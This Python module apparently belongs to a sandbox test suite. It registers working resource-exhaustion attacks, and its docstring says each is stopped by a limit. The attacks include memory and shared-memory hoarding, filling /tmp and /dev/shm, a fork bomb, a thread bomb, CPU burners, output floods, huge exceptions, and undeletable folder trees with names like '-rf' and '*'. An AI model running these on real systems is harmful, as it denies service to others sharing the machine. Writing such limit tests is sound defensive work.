"""Attacks that use up what others need: memory, processes, disk, output. Each is stopped by a limit."""
# ruff: noqa: PTH109, PTH123 - as hostile code is written

import ctypes
import os
import socket
import sys
import threading
import time
from pathlib import Path

import numpy as np

from .attack import Attack, attack, register
from .prelude import attempt, away, libc, linger


@attack("takes all memory in one piece")
def takes_memory():
    return np.ones(10**10).sum()


@attack("takes all memory bit by bit")
def takes_memory_slowly():
    kept = []
    while True:
        kept.append(bytearray(10**7))


@attack("takes memory in small objects and swallows the error")
def hoards_objects():
    kept, end = [], time.monotonic() + 20
    while time.monotonic() < end:
        try:
            kept.append([object() for _ in range(10**5)])
        except MemoryError:
            time.sleep(0.1)


@attack("takes memory in many processes, each below its own limit")
def hoards_in_many_processes():
    def hoard():
        kept = []
        for _ in range(60):
            kept.append(attempt(lambda: np.ones(10**6)))
        linger()

    for _ in range(40):
        away(hoard)
    linger(3)


@attack("takes memory that no process owns: shared maps, shared memory segments, memory files")
def takes_shared_memory():
    import mmap

    kept = []
    for number in range(64):
        kept.append(attempt(lambda: mmap.mmap(-1, 1 << 26)))
        attempt(lambda: [kept[-1].write(b"x" * (1 << 20)) for _ in range(64)])
        libc.shmget(number + 77, ctypes.c_size_t(1 << 26), 0o1666)
        libc.shmat.restype = ctypes.c_void_p
        memory = attempt(os.memfd_create, f"bomb{number}")
        for _ in range(64):
            attempt(os.write, memory, b"x" * (1 << 20))


@attack("fills the private file systems, which are memory")
def fills_the_scratch():
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/"):
        for number in range(64):
            with_file = Path(folder, f"fill-{number}")
            if attempt(with_file.write_bytes, b"x" * (4 << 20)) is None:
                break


@attack("makes so many files that no more can be made")
def makes_many_files():
    end = time.monotonic() + 1
    for number in range(10**6):
        if attempt(os.mkdir, f"folder-{number}") is not None or time.monotonic() > end:
            break


@attack("writes one file without end")
def writes_without_end():
    end = time.monotonic() + 20
    with open("large", "wb") as file:
        while time.monotonic() < end:
            file.write(b"x" * (1 << 20))


@attack("fills the kernel's own buffers: pipes, sockets, descriptors in flight")
def fills_kernel_buffers():
    import fcntl

    kept = []
    for _ in range(400):
        ends = attempt(os.pipe)
        if ends is None:
            break
        kept.append(ends)
        attempt(fcntl.fcntl, ends[1], 1031, 1 << 20)  # F_SETPIPE_SZ
        attempt(os.set_blocking, ends[1], False)
        attempt(os.write, ends[1], b"x" * (1 << 20))
        one, two = socket.socketpair()
        one.setblocking(False)
        attempt(socket.send_fds, one, [b"x" * 1000], [ends[0], two.fileno()])


@attack("forks without end")
def fork_bomb():
    end = time.monotonic() + 3
    while time.monotonic() < end:
        attempt(os.fork)


@attack("starts threads without end")
def thread_bomb():
    for _ in range(5000):
        if attempt(threading.Thread(target=linger, daemon=True).start):
            break


@attack("uses every core from processes that the cell leaves behind")
def burns_processors():
    def burn():
        end = time.monotonic() + 25
        while time.monotonic() < end:
            pass

    for _ in range(6):
        away(burn)


@attack("never ends")
def endless_loop():
    while True:
        pass


@attack("sleeps in every cell and in every call, and lets no exception end it")
def sleeps():
    while True:
        try:
            time.sleep(30)
        except BaseException:
            continue


@attack("calls itself until the stack overflows, then does so in C")
def overflows_the_stack():
    sys.setrecursionlimit(10**9)

    def deeper(depth):
        return deeper(depth + 1)

    attempt(deeper, 0)
    nested = []
    for _ in range(10**6):
        nested = [nested]
    return repr(nested)


@attack("floods both standard streams, line by line")
def floods_the_streams():
    for number in range(10**6):
        print("flood", number)
        print("flood", number, file=sys.stderr)


@attack("prints one line of 200 MB")
def prints_one_huge_line():
    print("x" * 2 * 10**8)
    sys.stderr.write("y" * 10**8)


@attack("displays thousands of large objects")
def displays_without_end():
    from IPython.display import HTML, display

    for _ in range(5000):
        display(HTML("<b>x</b>" * 10**5))


@attack("writes past Python to the descriptors of the standard streams")
def writes_past_python():
    for number in range(64):
        attempt(os.set_blocking, number, False)
        for _ in range(64):
            attempt(os.write, number, b"flood" * 20_000)


@attack("raises an error whose text has 100 MB and whose traceback never ends")
def raises_a_huge_error():
    class Huge(Exception):
        def __str__(self):
            return "x" * 10**8

    error = Huge()
    for _ in range(2000):
        chained = Huge("y" * 10**4)
        chained.__cause__ = error
        error = chained
    raise error


@attack(
    "builds a tree of folders too deep to remove, with names too long and folders that may not be read"
)
def digs_deep():
    start = os.getcwd()
    for _ in range(3000):
        if attempt(os.mkdir, "d" * 200) or attempt(os.chdir, "d" * 200):
            break
    attempt(os.mkfifo, "pipe")
    attempt(os.chmod, ".", 0)
    attempt(os.chdir, start)
    for name in ("fifo", "-rf", "*", "a\nb", "\x1b[2J"):
        attempt(os.mkfifo, name)
        attempt(os.chmod, name, 0)
    attempt(os.chmod, ".", 0)


HOARD = """
def hoard():
    kept = []
    for _ in range(25):
        kept.append(attempt(lambda: np.ones(1_300_000)))
        time.sleep(0.1)
    linger(10)

for _ in range(14):
    away(hoard)
"""

register(
    Attack(
        "hoards-between-answers",
        "takes memory in the background, while every cell and every call answers in time",
        (HOARD, *["time.sleep(0.1)"] * 30),
    )
)
